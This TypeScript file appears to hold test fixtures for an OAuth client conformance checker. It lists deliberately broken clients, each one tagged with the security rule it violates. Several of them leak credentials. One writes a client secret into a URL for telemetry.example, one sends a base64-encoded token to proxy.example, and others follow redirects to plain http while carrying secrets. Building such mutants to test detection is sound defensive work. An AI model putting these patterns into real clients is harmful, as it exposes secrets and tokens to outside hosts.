import type { ClientFetch } from '../../client/index.ts'
import type { Seams } from '../../engine/clients/reference.ts'
import type { BrokenClient } from './broken-client.ts'
import { answers, type Exchange, type Leg, successOf, withBody } from './on-the-wire.ts'

/** Follows what the condition lets through. */
function follows(isFollowed: (location: URL, exchange: Exchange, answer: Response) => boolean) {
  return answers(() => async (exchange) => {
    const answer = await exchange.forward()
    const location = answer.headers.get('location')
    if (location === null || !URL.canParse(location)) return answer
    if (!isFollowed(new URL(location), exchange, answer)) return answer
    return exchange.send(location, exchange.init)
  })
}

type Get = Parameters<ClientFetch>[1]
const get = (headers: Readonly<Record<string, string>>): Get => ({
  method: 'GET',
  headers,
  redirect: 'manual',
  signal: new AbortController().signal,
})

/** Sends one more request after a token request, and does not care what comes of it. */
function sendsToo(
  leg: Leg,
  more: (exchange: Exchange, token: string) => readonly [string, Get] | undefined,
): Pick<Seams, 'network'> {
  return answers(() => async (exchange) => {
    const answer = await exchange.forward()
    const token = String((await successOf(answer))?.access_token ?? '')
    const request = exchange.leg === leg ? more(exchange, token) : undefined
    if (request) await exchange.send(...request).catch(() => undefined)
    return answer
  })
}

const bearer = (token: string) => get({ authorization: `Bearer ${token}` })
const documentOf = (url: string) =>
  url.replace('/oauth2/v2.0/token', '/v2.0/.well-known/openid-configuration')

/** Believes a discovery document: the reference client would refuse it. */
function believes(isBelieved: (document: Record<string, unknown>, origin: string) => boolean) {
  return {
    network: (send: ClientFetch): ClientFetch => {
      const endpoints = new Map<string, string>()
      return async (url, init) => {
        if (init.body !== undefined) return send(endpoints.get(url) ?? url, init)
        const answer = await send(url, init)
        const body = await successOf(answer)
        const { origin } = new URL(url)
        const endpoint = body?.token_endpoint
        if (typeof endpoint !== 'string' || !isBelieved(body ?? {}, origin)) return answer
        const own = `${origin}${new URL(endpoint).pathname}`
        endpoints.set(own, endpoint)
        const issuer = own.replace('oauth2/v2.0/token', 'v2.0')
        return withBody(answer, { ...body, issuer, token_endpoint: own })
      }
    },
  }
}

const isOn = (url: unknown, origin: string) => String(url).startsWith(`${origin}/`)

/** Credentials and requests that go where they must not. */
export const goingElsewhere: readonly BrokenClient[] = [
  {
    name: 'follows a redirect to another port with its client secret',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: follows(({ hostname }, { leg }) => leg === 't1' && hostname === 'localhost'),
  },
  {
    name: 'follows a redirect to another port with T1',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: follows(({ hostname }, { leg }) => leg === 'redemption' && hostname === 'localhost'),
  },
  {
    name: 'follows permanent redirects alone',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: follows((_, __, { status }) => status === 308),
  },
  {
    name: 'follows a redirect to plain http with its client secret',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: follows(({ protocol }, { leg }) => leg === 't1' && protocol === 'http:'),
  },
  {
    name: 'follows a redirect to plain http with T1',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: follows(({ protocol }, { leg }) => leg === 'redemption' && protocol === 'http:'),
  },
  {
    name: 'believes a discovery document of another issuer',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: believes(({ issuer }, origin) => !isOn(issuer, origin)),
  },
  {
    name: 'believes a token endpoint over plain http',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: believes(({ token_endpoint: endpoint }) => String(endpoint).startsWith('http:')),
  },
  {
    name: 'sends its client secret to a host of its own',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('t1', ({ form }) => {
      const secret = form.get('client_secret')
      return secret === null
        ? undefined
        : [`https://telemetry.example/used?by=${encodeURIComponent(secret)}`, get({})]
    }),
  },
  {
    name: 'sends T1 to a resource on another host',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('redemption', ({ form }) => [
      'https://orders.example/me',
      bearer(form.get('client_assertion') ?? ''),
    ]),
  },
  {
    name: 'sends its token to a proxy on another host, in base64',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('redemption', (_, token) =>
      token === ''
        ? undefined
        : ['https://proxy.example/', get({ 'x-token': Buffer.from(token).toString('base64') })],
    ),
  },
  {
    name: 'writes its client secret into the URL of discovery',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('t1', ({ form, url }) => {
      const secret = form.get('client_secret')
      if (secret === null) return undefined
      return [`${documentOf(url)}?client_secret=${encodeURIComponent(secret)}`, get({})]
    }),
  },
  {
    name: 'proves itself by HTTP Basic where it reads the discovery document',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('t1', ({ form, url }) => {
      const secret = form.get('client_secret')
      if (secret === null) return undefined
      const pair = `${form.get('client_id')}:${encodeURIComponent(secret)}`
      const authorization = `Basic ${Buffer.from(pair).toString('base64')}`
      return [documentOf(url), get({ authorization })]
    }),
  },
  {
    name: 'writes T1 into the URL of instance discovery',
    breaks: 'AUTHORITY-CREDENTIAL',
    seams: sendsToo('redemption', ({ form, url }) => [
      `${new URL(url).origin}/common/discovery/instance?api-version=1.1&authorization_endpoint=${encodeURIComponent(
        url.replace('token', 'authorize'),
      )}&assertion=${form.get('client_assertion')}`,
      get({}),
    ]),
  },
  {
    name: 'calls Microsoft Graph with T1',
    breaks: 'LEG-T1-BEARER',
    seams: sendsToo('redemption', ({ form, url }) => [
      `${new URL(url).origin}/v1.0/servicePrincipals`,
      bearer(form.get('client_assertion') ?? ''),
    ]),
  },
  {
    name: 'calls Microsoft Graph with T1 when its redemption is refused',
    breaks: 'LEG-T1-BEARER',
    seams: answers(() => async ({ forward, form, leg, send, url }) => {
      const answer = await forward()
      if (leg === 'redemption' && answer.status >= 400) {
        const t1 = form.get('client_assertion') ?? ''
        await send(`${new URL(url).origin}/v1.0/me`, bearer(t1)).catch(() => undefined)
      }
      return answer
    }),
  },
  {
    name: 'asks another port for the discovery document',
    breaks: 'AUTHORITY-HOST',
    seams: {
      network: (send) => async (url, init) => {
        const other = new URL(documentOf(url))
        other.port = '9443'
        if (init.body !== undefined) await send(other.href, get({})).catch(() => undefined)
        return send(url, init)
      },
    },
  },
  {
    name: 'asks for the keys over plain http',
    breaks: 'AUTHORITY-HOST',
    seams: {
      network: (send) => async (url, init) => {
        const keys = url
          .replace(/^https:\/\/[^/]+/, 'http://localhost:8080')
          .replace('oauth2/v2.0/token', 'discovery/v2.0/keys')
        if (init.body !== undefined) await send(keys, get({})).catch(() => undefined)
        return send(url, init)
      },
    },
  },
  {
    name: 'looks up its version on another host after a refusal',
    breaks: 'AUTHORITY-HOST',
    seams: answers(() => async ({ forward, send }) => {
      const answer = await forward()
      if (answer.status >= 400) {
        await send('https://registry.example/newest', get({})).catch(() => undefined)
      }
      return answer
    }),
  },
]
